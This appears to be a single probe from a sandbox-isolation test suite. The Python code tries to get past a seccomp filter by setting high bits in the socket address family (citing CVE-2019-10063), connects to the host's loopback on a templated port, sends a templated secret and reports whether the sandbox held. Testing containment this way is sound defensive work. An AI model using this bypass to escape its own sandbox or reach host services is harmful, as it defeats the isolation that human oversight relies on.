# technique: reach the host's loopback with a bit above 32 in the family, which the kernel drops (CVE-2019-10063)
# family: C3
# severity: C
# layers: seccomp, net_namespace
# profile: python-full
import ctypes
import os
import struct

errors = []
for high in [1 << 32, -1 << 63]:
    fd, e = call("socket", 2 | high, 1, 0)
    if not e:
        r, e = call("connect", fd, struct.pack("<H", 2) + struct.pack(">H", int("@PORT@")) + bytes([127, 0, 0, 1]) + bytes(8), 16)
        if not e:
            os.write(fd, b"@SECRET@")
            won("read %s" % os.read(fd, 100).decode())
            break
    errors.append(e)
else:
    held(" ".join(errors))
